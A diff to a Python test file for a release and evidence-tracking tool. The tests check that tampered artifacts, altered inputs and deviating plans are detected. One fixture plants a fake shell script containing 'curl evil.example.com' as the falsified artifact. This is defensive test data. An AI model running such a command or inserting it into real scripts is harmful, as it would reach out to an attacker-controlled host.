@@ -20,32 +20,18 @@ from tests.support.home import Home
 
 @pytest.fixture
 def home(tmp_path: Path) -> Home:
-    """One completed run, whose documents nobody can render from."""
-    home = Home(tmp_path, agents=("a",))
+    """One completed run."""
+    home = Home(tmp_path)
+    home.release("shop-0")
     home.release("shop-1")
-    home.batch(home.story.run("dev", "shop-1"))
+    home.batch(home.story.run("dev", "shop-0"))
     return home
-
-
-def documented(home: Home) -> None:
-    """From here on runs pin documents, so that their artifacts can be rendered again."""
-    head = "apiVersion: lockgate.dev/v1\n"
-    texts = {
-        "environments/dev.yaml": "kind: Environment\nmetadata: {name: dev}\nspec: {strategy: once, gates: none}\n",
-        "strategies/once.yaml": "kind: Strategy\nmetadata: {name: once}\nspec: {stages: [{percent: 100}]}\n",
-    }
-    for name in ("api", "web", "worker"):
-        spec = f"metadata: {{name: {name}}}\nspec: {{repository: registry.example.com/{name}}}\n"
-        texts[f"components/{name}.yaml"] = f"kind: Component\n{spec}"
-    for path, text in texts.items():
-        home.document(path, (head + text).encode())
 
 
 def with_inputs(change: Callable[[e.Draft], e.Draft], also: Callable[[e.Draft], e.Draft] | None = None) -> Tamper:
     """A run whose inputs (and orders) say something else of its artifacts."""
 
     def tamper(home: Home) -> None:
-        documented(home)
         drafts = home.story.run("dev", "shop-1")
         drafts[1] = change(drafts[1])
         drafts[3] = also(drafts[3]) if also is not None else drafts[3]
@@ -104,7 +90,6 @@ def with_artifact(data: bytes | None) -> Tamper:
 
 def falsified_artifact(home: Home) -> None:
     """The commit that names an artifact stores other bytes under its digest."""
-    documented(home)
     drafts = home.story.run("dev", "shop-1")[:2]
     path = artifact_path(drafts[1].detail.artifacts["pull.sh"])
     rewrite(home, drafts, lambda new: {**new, path: b"#!/bin/sh\ncurl evil.example.com\n"})
@@ -115,13 +100,8 @@ def unnamed_artifact(home: Home) -> None:
 
 
 def other_plan_followed(home: Home) -> None:
-    drafts = home.story.run("dev", "shop-1")
-    run = drafts[0].run or ""
-    line = home.story.report(run, "a", "shop-1", home.story.components["shop-1"], sha("another plan"))
-    said = drafts[4].detail.results[0].model_copy(update={"report": digest(line)})
-    detail = drafts[4].detail.model_copy(update={"results": (said, *drafts[4].detail.results[1:])})
-    files = {"reports/{nnn}-stage-1.jsonl": line + b"\n"}
-    home.batch([*drafts[:4], drafts[4].model_copy(update={"detail": detail, "files": files}), *drafts[5:]])
+    home.story.follows = sha("another plan")
+    home.batch(home.story.run("dev", "shop-1"))
 
 
 TAMPERINGS: dict[str, tuple[Tamper, set[str]]] = {
@@ -147,7 +127,6 @@ def test_tampering_is_found(home: Home, kind: str) -> None:
 
 @pytest.mark.parametrize("templates", ["this version's", "another version's"])
 def test_artifacts_are_rendered_again_by_the_templates_of_this_version(home: Home, templates: str) -> None:
-    documented(home)
     drafts = home.story.run("dev", "shop-1")
     home.batch(drafts)
     paths = [path for path in drafts[1].files if path.startswith("artifacts/")]
@@ -163,19 +142,17 @@ def test_artifacts_are_rendered_again_by_the_templates_of_this_version(home: Hom
 
 
 def test_two_runs_of_a_release_share_what_does_not_name_the_run(home: Home) -> None:
-    documented(home)
     for _ in range(2):
         for draft in home.story.run("dev", "shop-1"):
             home.batch([draft])
     stored = home.git("log", "--format=", "--name-only", "--diff-filter=A", EVIDENCE_REF, "--", "artifacts")
-    # The run without documents stored its plan; of these two, the compose lock and the script are stored once.
-    assert len(stored.split()) == len(set(stored.split())) == 1 + 2 + 2
+    # Three of the first run; of these two, the compose lock and the script are stored once.
+    assert len(stored.split()) == len(set(stored.split())) == 3 + 2 + 2
     assert home.git("log", "--format=%H", "--diff-filter=MD", EVIDENCE_REF, "--", "artifacts") == ""
     assert codes(home) == set()
 
 
 def test_the_controller_stops_before_an_artifact_that_is_not_what_its_name_says(home: Home) -> None:
-    documented(home)
     drafts = home.story.run("dev", "shop-1")
     path = artifact_path(drafts[1].detail.artifacts["pull.sh"])
     rewrite(home, event(home), lambda new: {**new, path: b"evil"})
